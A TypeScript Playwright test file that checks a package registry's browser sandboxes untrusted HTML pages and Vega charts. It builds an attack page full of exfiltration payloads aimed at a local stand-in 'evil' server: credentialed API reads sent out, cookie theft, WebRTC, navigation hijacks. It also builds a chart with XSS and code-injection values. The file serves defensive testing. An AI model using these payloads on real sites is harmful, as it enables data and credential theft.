import { createSocket, type Socket } from "node:dgram";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { Package } from "t4";
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { temporaryHome } from "../fixture.js";
import { openRegistry, useCatalog } from "./browse.js";

const home = temporaryHome();
const opened = useCatalog();
vi.setConfig({ testTimeout: 60_000 });

/** Whatever arrives elsewhere. */
const arrived: string[] = [];
let server: Server;
let socket: Socket;
let base: string;
/** What frames got answers from. */
const asked: string[] = [];

/** A page that tries every way out that is known. */
function attackOn(evil: string, udp: number): string {
  const tries = [
    `fetch("${evil}/fetch")`,
    `fetch("/api/v1/registries", { credentials: "include" }).then((a) => a.text()).then((t) => fetch("${evil}/?" + t))`,
    `fetch("/api/v1/sample", { method: "POST", mode: "no-cors", body: "{}" })`,
    `navigator.sendBeacon("${evil}/beacon", "x")`,
    `new WebSocket("${evil.replace("http", "ws")}/socket")`,
    `new EventSource("${evil}/events")`,
    `new Image().src = "${evil}/image"`,
    `import("${evil}/module.js")`,
    `new Worker("${evil}/worker.js")`,
    `new Worker(URL.createObjectURL(new Blob(["fetch('${evil}/from-worker')"])))`,
    `parent.document.title = "owned"`,
    `top.location = "${evil}/top"`,
    `open("${evil}/open")`,
    `alert(1)`,
    `localStorage.x = document.cookie`,
    `document.forms[0].submit()`,
    `parent.postMessage({ height: 1e9 }, "*")`,
    `document.body.insertAdjacentHTML("beforeend", "<iframe src='${evil}/frame'></iframe><embed src='${evil}/embed'>")`,
    `document.body.insertAdjacentHTML("beforeend", "<iframe src='/api/v1/registries'></iframe><iframe src='/'></iframe>")`,
    `document.head.insertAdjacentHTML("beforeend", "<link rel=stylesheet href='${evil}/css'><link rel=prefetch href='${evil}/pre'>")`,
    `const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udp}" }] });
     c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o))`,
    `setTimeout(() => { location = "${evil}/away" }, 1500)`,
  ];
  const scripts = tries.map((one) => `<script>try { ${one} } catch (error) { console.log(String(error)) }</script>`);
  const hints = `<meta http-equiv="refresh" content="1;url=${evil}/refresh"><link rel="preconnect" href="${evil}">`;
  return `<!doctype html><title>Attack</title>${hints}<body><form action="${evil}/form" method="post"></form>
<img src="${evil}/img"><script src="${evil}/script.js"></script><style>@import "${evil}/import.css";</style>
<p id="ran">nothing</p><script>document.getElementById("ran").textContent = "scripts run"</script>${scripts.join("\n")}`;
}

beforeAll(async () => {
  server = createServer((request, response) => {
    arrived.push(request.url ?? "");
    response.end();
  });
  server.on("connection", () => arrived.push("connection"));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  socket = createSocket("udp4", () => arrived.push("udp"));
  await new Promise<void>((resolve) => socket.bind(0, "127.0.0.1", resolve));
  const evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const pkg = new Package();
  await pkg.setText("attack.html", attackOn(evil, socket.address().port));
  const chart = {
    $schema: "https://vega.github.io/schema/vega/v6.json",
    title: "<img src=x onerror=alert(1)>",
    data: [{ name: "a", url: `${evil}/data` }],
    signals: [{ name: "s", init: "toString.constructor('fetch(`' + 'x' + '`)')()" }],
    marks: [
      { type: "image", encode: { enter: { url: { value: `${evil}/mark` }, href: { value: "javascript:alert(1)" } } } },
    ],
  };
  await pkg.setText("chart.json", JSON.stringify(chart));
  await pkg.setText("outside.vl.json", JSON.stringify({ ...chart, data: [], signals: [] }));
  await pkg.setText("data/a.csv", "a\nb\nc");
  await pkg.setText("report/index.html", '<!doctype html><p id="p">waiting</p><script src="app.js"></script>');
  const read = 'document.getElementById("p").textContent = `read: ${text.split("\\n").length} lines`';
  await pkg.setText("report/app.js", `fetch("../data/a.csv").then((a) => a.text()).then((text) => { ${read} })`);
  const registry = join(home, "registry");
  await pkg.push("evil/frames", registry);
  base = `${await openRegistry(opened(), registry)}/p/evil/frames/files`;
  // What the policy stops has no answer.
  opened().page.on("response", (response) => {
    const isOwn = /^(?:data|blob):/.test(response.url());
    if (!isOwn && response.frame().parentFrame() !== null) asked.push(new URL(response.url()).pathname);
  });
}, 60_000);

afterAll(() => {
  server.close();
  socket.close();
});

beforeEach(() => {
  asked.length = 0;
  arrived.length = 0;
  opened().complaints.length = 0;
});

const SEEN = /^\/-\/(?:raw|chart)\/|^\/assets\//;

describe("a stranger's page", () => {
  it("does nothing by itself", async () => {
    const { page } = opened();
    await page.goto(`${base}/attack.html`);
    await page.frameLocator("iframe").getByText("nothing").waitFor();
    await page.waitForTimeout(2000);
    expect(arrived).toEqual([]);
    expect(asked.filter((path) => !SEEN.test(path))).toEqual([]);
    expect(await page.locator("iframe").getAttribute("sandbox")).toBe("");
  });

  it("whose scripts are run reaches its own revision, and no other site, no API, not the page around it", async () => {
    const { page, origin } = opened();
    await page.goto(`${base}/attack.html`);
    await page.getByRole("button", { name: "Run scripts" }).click();
    await page.frameLocator("iframe").getByText("scripts run").waitFor();
    await page.waitForTimeout(4000);
    // WebRTC and a connection without a word are what is left: why scripts wait for a click.
    expect(arrived.filter((what) => what !== "udp" && what !== "connection")).toEqual([]);
    expect(asked.filter((path) => !SEEN.test(path))).toEqual([]);
    expect(new URL(page.url()).origin).toBe(origin);
    expect(await page.title()).toBe("attack.html · evil/frames · T4");
    expect(opened().context.pages()).toHaveLength(1);
    expect(opened().complaints.filter((line) => /^dialog|^popup/.test(line))).toEqual([]);
    expect(await page.locator("iframe").getAttribute("sandbox")).toBe("allow-scripts");
  });

  it("whose scripts are run reads the files beside it", async () => {
    const { page } = opened();
    await page.goto(`${base}/report/index.html`);
    await page.getByRole("button", { name: "Run scripts" }).click();
    await page.frameLocator("iframe").getByText("read: 3 lines").waitFor();
  });
});

describe("a stranger's chart", () => {
  it.each(["chart.json", "outside.vl.json"])(
    "computes nothing that it should not, and loads nothing from elsewhere: %s",
    async (name) => {
      const { page } = opened();
      await page.goto(`${base}/${name}`);
      await page.frameLocator("iframe").locator("svg, [role=alert]").first().waitFor();
      await page.waitForTimeout(1000);
      expect(arrived).toEqual([]);
      expect(asked.filter((path) => !SEEN.test(path))).toEqual([]);
      expect(opened().complaints.filter((line) => /^dialog|^popup/.test(line))).toEqual([]);
    },
  );
});
